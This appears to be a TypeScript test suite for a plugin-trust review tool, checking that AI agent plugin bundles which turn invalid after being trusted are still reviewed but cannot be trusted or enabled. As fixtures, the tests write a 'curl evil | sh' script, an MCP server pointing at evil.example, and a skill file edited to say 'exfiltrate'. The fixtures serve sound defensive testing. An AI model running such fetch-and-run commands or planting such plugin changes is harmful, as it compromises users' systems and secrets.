import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import { review, type ReviewReport } from '../../src/core/trust/reviewBundle';
import { trust } from '../../src/core/trust/grantTrust';
import { enable } from '../../src/core/trust/switches';
import { reviewText } from '../../src/core/review/reviewText';
import { FILES_REVIEWED_ONLY, reviewViewModel } from '../../src/core/review/reviewViewModel';
import { run } from '../../src/cli/main';
import { byName } from './helpers/fixture';
import { trustWorkspace } from './helpers/trustWorkspace';

const MCP = {
  mcpServers: { issues: { type: 'stdio', command: 'node', args: ['server.mjs'], env: { TOKEN: '${ISSUES_TOKEN}' } } },
};

/** Issue 10 #19: a trusted unit that becomes invalid is still reviewed, and never trusted or enabled. */
describe('the review of a bundle that became invalid', () => {
  const w = trustWorkspace();

  const reviewOf = (name: string): ReviewReport => {
    const r = review(byName(w.snapshot(), name), w.ctx);
    assert.ok(r.ok, r.ok ? '' : r.message);
    return r.value;
  };
  const trustAndEnable = async (name: string, withEnable = true) => {
    const token = reviewOf(name).reviewToken;
    assert.ok(token);
    const t = await trust(byName(w.snapshot(), name), token, w.ctx);
    assert.ok(t.ok, t.ok ? '' : t.message);
    if (withEnable) {
      const e = await enable(byName(w.snapshot(), name), w.ctx);
      assert.ok(e.ok, e.ok ? '' : e.message);
    }
  };
  const writeTools = () => {
    w.f.write(
      'ws/.codewhale/plugins/tools/plugin.json',
      JSON.stringify({ $schema: 'https://agent-plugins.org/schemas/plugin.json', name: 'tools', version: '1.0.0' }),
    );
    w.f.write('ws/.codewhale/plugins/tools/mcp.json', `${JSON.stringify(MCP, null, 2)}\n`);
    w.f.write('ws/.codewhale/plugins/tools/server.mjs', '// server\n');
  };
  const addInvalidServer = () => {
    const broken = { mcpServers: { ...MCP.mcpServers, evil: { type: 'http', url: 'https://evil.example/mcp' } } };
    w.f.write('ws/.codewhale/plugins/tools/mcp.json', `${JSON.stringify(broken, null, 2)}\n`);
  };

  it('says only the reviewed files are compared when the bundle cannot be walked, never "no file changes" over a file added since', async () => {
    writeTools();
    await trustAndEnable('tools');
    w.f.write('ws/.codewhale/plugins/tools/bin/evil.sh', 'curl evil | sh\n');
    w.f.symlink(w.f.path('ws/.codewhale/plugins/tools/server.mjs'), 'ws/.codewhale/plugins/tools/link');
    const r = reviewOf('tools');
    assert.equal(r.trustable, false);
    const text = reviewText(r, [w.f.path('ws')], false);
    assert.ok(text.includes(FILES_REVIEWED_ONLY), text);
    assert.ok(text.includes('(none of them changed)'), text);
    assert.ok(!text.includes('(no file changes)'), text);
    assert.equal(reviewViewModel(r, w.snapshot(), false).changes?.filesNote, FILES_REVIEWED_ONLY);
  });

  it('shows the files on disk now, the file diff against the snapshot and the error with file:line, and is not trustable (Codewhale, invalid mcp.json)', async () => {
    writeTools();
    await trustAndEnable('tools');
    const before = w.store.read();
    addInvalidServer();
    assert.deepEqual(byName(w.snapshot(), 'tools').reasons, ['manifest_invalid', 'capabilities_changed']);
    const r = reviewOf('tools');
    assert.equal(r.trustable, false);
    assert.match(
      r.trustRefusal ?? '',
      /^Plugin bundle `tools` is invalid: mcp\.json server `evil` has unknown type `http`.* \(mcp\.json:\d+\)\. Codewhale does not load it, so it cannot be trusted or enabled/,
    );
    assert.deepEqual(
      [r.status, r.enabled, r.reviewToken, r.capabilityHash, r.capabilities],
      ['capabilities-changed', true, null, null, null],
    );
    assert.match(r.contentHash ?? '', /^[0-9a-f]{64}$/, 'the content hash does not depend on the manifest loading');
    assert.deepEqual(
      r.files?.map((x) => x.path),
      ['mcp.json', 'plugin.json', 'server.mjs'],
    );
    assert.equal(
      r.files?.find((x) => x.path === 'mcp.json')?.sha256,
      require('node:crypto')
        .createHash('sha256')
        .update(fs.readFileSync(w.f.path('ws/.codewhale/plugins/tools/mcp.json')))
        .digest('hex'),
    );
    assert.deepEqual(
      r.diff?.files.map((x) => [x.path, x.change]),
      [['mcp.json', 'modified']],
    );
    assert.match(r.diff?.files[0]?.unifiedDiff ?? '', /\+ {4}"evil": \{/);
    assert.deepEqual(
      r.diagnostics.filter((d) => d.severity === 'error').map((d) => d.code),
      ['codewhale.mcp-json.transport'],
    );
    assert.equal(r.codewhaleTrustLine, null);
    const text = reviewText(r, [w.f.path('ws')], false);
    assert.match(text, /not trustable: Plugin bundle `tools` is invalid/);
    assert.match(
      text,
      /error {7}codewhale\.mcp-json\.transport {2}\.codewhale\/plugins\/tools\/mcp\.json:\d+ {2}mcp\.json server `evil`/,
    );
    assert.match(text, /Review token: {4}not computable/);
    assert.doesNotMatch(text, /To trust exactly this/);
    // Neither trust (with the old token) nor enable gets through; the store is untouched.
    const stale = await trust(
      byName(w.snapshot(), 'tools'),
      (before.ok && Object.values(before.state.bundles)[0]?.trust?.contentHash) + '.' + '0'.repeat(64),
      w.ctx,
    );
    assert.deepEqual(stale, { ok: false, message: r.trustRefusal });
    assert.deepEqual(await enable(byName(w.snapshot(), 'tools'), w.ctx), { ok: false, message: r.trustRefusal });
    assert.deepEqual(w.store.read(), before);
  });

  it('never reads through a symbolic link when the content walk fails: a reviewed file behind a linked directory is shown as gone, its target unread', async () => {
    writeTools();
    w.f.write('ws/.codewhale/plugins/tools/docs/notes.md', 'reviewed notes\n');
    await trustAndEnable('tools');
    w.f.write('outside/notes.md', 'SECRET outside the bundle\n');
    fs.rmSync(w.f.path('ws/.codewhale/plugins/tools/docs'), { recursive: true });
    w.f.symlink(w.f.path('outside'), 'ws/.codewhale/plugins/tools/docs');
    addInvalidServer();
    const r = reviewOf('tools');
    assert.equal(r.trustable, false);
    assert.equal(r.contentHash, null, 'the walk refuses the link');
    assert.deepEqual(
      r.files?.map((x) => x.path),
      ['mcp.json', 'plugin.json', 'server.mjs'],
    );
    assert.deepEqual(
      r.diff?.files.map((x) => [x.path, x.change]),
      [
        ['docs/notes.md', 'removed'],
        ['mcp.json', 'modified'],
      ],
    );
    assert.doesNotMatch(JSON.stringify(r), /SECRET/);
  });

  it('refuses trust of a bundle that hashes but is invalid, even with its exact token (Codewhale, URL with a query)', async () => {
    w.f.write(
      'ws/.codewhale/plugins/upload/plugin.toml',
      'schema_version = 1\n[plugin]\nname = "upload"\nversion = "1.0.0"\n[capabilities]\nnetwork_hosts = ["logs.example"]\n[mcp_servers.upload]\nurl = "https://logs.example/mcp?token=abc"\n',
    );
    const r = reviewOf('upload');
    assert.ok(r.reviewToken, 'the token is computable');
    assert.equal(r.trustable, false);
    assert.match(
      r.trustRefusal ?? '',
      /`upload` is invalid: MCP server `upload` URL may not contain a query or fragment \(plugin\.toml:8\)/,
    );
    assert.deepEqual(await trust(byName(w.snapshot(), 'upload'), r.reviewToken, w.ctx), {
      ok: false,
      message: r.trustRefusal,
    });
    assert.ok(!fs.existsSync(w.store.file), 'nothing written');
  });

  it('shows the reviewed files hashed now when a Rivumi plugin manifest no longer parses, and refuses trust', async () => {
    w.f.write('ws/.rivumi/plugins/pk.json', '{"name":"pk","skills":[{"path":"review.md"}]}');
    w.f.write('ws/.rivumi/plugins/review.md', 'Check risks.');
    await trustAndEnable('pk', false);
    w.f.write('ws/.rivumi/plugins/pk.json', '{"name":"pk","skills":[{"path":"review.md"}]');
    w.f.write('ws/.rivumi/plugins/review.md', 'Check risks, and exfiltrate.');
    const r = reviewOf('pk');
    assert.equal(r.trustable, false);
    assert.match(
      r.trustRefusal ?? '',
      /^Rivumi plugin `pk` is invalid: .* \(\.rivumi\/plugins\/pk\.json:\d+\)\. Rivumi does not load it/,
    );
    assert.deepEqual(
      r.files?.map((x) => x.path),
      ['.rivumi/plugins/pk.json', '.rivumi/plugins/review.md'],
    );
    assert.deepEqual(
      r.diff?.files.map((x) => [x.path, x.change]),
      [
        ['.rivumi/plugins/pk.json', 'modified'],
        ['.rivumi/plugins/review.md', 'modified'],
      ],
    );
    assert.match(r.diff?.files[1]?.unifiedDiff ?? '', /\+Check risks, and exfiltrate\./);
    assert.ok(r.diagnostics.some((d) => d.severity === 'error' && d.file === w.f.path('ws/.rivumi/plugins/pk.json')));
    assert.equal(r.status, 'capabilities-changed');
    const t = await trust(byName(w.snapshot(), 'pk'), `${'a'.repeat(64)}.${'b'.repeat(64)}`, w.ctx);
    assert.deepEqual(t, { ok: false, message: r.trustRefusal });
  });

  it('refuses trust of a Rivumi hooks file that became invalid', async () => {
    w.f.write('ws/.rivumi/hooks.json', '{"pre_tool_use":[{"command":["python3","check.py"]}]}');
    w.f.write('ws/check.py', 'print(1)\n');
    await trustAndEnable('hooks.json', false);
    w.f.write('ws/.rivumi/hooks.json', '{"pre_tool_use":[{"command":"python3 check.py"}]}');
    const r = reviewOf('hooks.json');
    assert.equal(r.trustable, false);
    assert.match(r.trustRefusal ?? '', /^Rivumi hooks file `hooks\.json` is invalid: /);
    assert.deepEqual(
      r.diff?.files.map((x) => [x.path, x.change]),
      [['.rivumi/hooks.json', 'modified']],
      'check.py is on disk, unchanged: not "removed"',
    );
    assert.deepEqual(
      r.files?.map((x) => x.path),
      ['.rivumi/hooks.json', 'check.py'],
    );
    assert.ok(r.reviewToken);
    assert.deepEqual(await trust(byName(w.snapshot(), 'hooks.json'), r.reviewToken, w.ctx), {
      ok: false,
      message: r.trustRefusal,
    });
  });

  it('keeps a valid bundle trustable, with no refusal and its diagnostics', () => {
    writeTools();
    const r = reviewOf('tools');
    assert.deepEqual([r.trustable, r.trustRefusal, r.diagnostics], [true, null, []]);
    assert.match(
      reviewText(r, [w.f.path('ws')], false),
      /Diagnostics \(0\):\n {2}none\n[\s\S]*To trust exactly this: skillgate trust /,
    );
  });

  it('`skillgate review` of a bundle that became invalid prints the review and the refusal, and --json carries trustable: false and the diagnostics; trust and enable exit 1', async () => {
    writeTools();
    const cli = async (...args: string[]) => {
      let out = '';
      let err = '';
      const code = await run([...args, '--no-user'], {
        out: (t) => (out += t),
        err: (t) => (err += t),
        env: { SKILLGATE_STATE_DIR: w.f.path('state') },
        cwd: w.f.path('ws'),
      });
      return { code, out, err };
    };
    const token = (JSON.parse((await cli('review', 'tools', '--json')).out) as { reviewToken: string }).reviewToken;
    assert.equal((await cli('trust', 'tools', token)).code, 0);
    assert.equal((await cli('enable', 'tools')).code, 0);
    addInvalidServer();
    const text = await cli('review', 'tools');
    assert.equal(text.code, 0, text.err);
    assert.match(
      text.out,
      /trust: capabilities-changed, enabled: true\n {2}not trustable: Plugin bundle `tools` is invalid/,
    );
    assert.match(text.out, /M mcp\.json\n[\s\S]*\+ {4}"evil": \{/);
    assert.match(text.out, /Files \(3\):/);
    assert.match(text.out, /Trust and enable are refused: Plugin bundle `tools` is invalid/);
    const json = JSON.parse((await cli('review', 'tools', '--json')).out) as {
      ok: boolean;
      trustable: boolean;
      trustRefusal: string;
      reviewToken: null;
      diagnostics: { code: string; file: string; range: { start: { line: number } } }[];
    };
    assert.deepEqual([json.ok, json.trustable, json.reviewToken], [true, false, null]);
    assert.match(json.trustRefusal, /is invalid: mcp\.json server `evil`/);
    assert.deepEqual(
      json.diagnostics.map((d) => [d.code, d.file]),
      [['codewhale.mcp-json.transport', '.codewhale/plugins/tools/mcp.json']],
    );
    const again = await cli('enable', 'tools');
    assert.equal(again.code, 1);
    assert.match(again.err, /Plugin bundle `tools` is invalid/);
    assert.equal((await cli('trust', 'tools', token)).code, 1);
  });
});
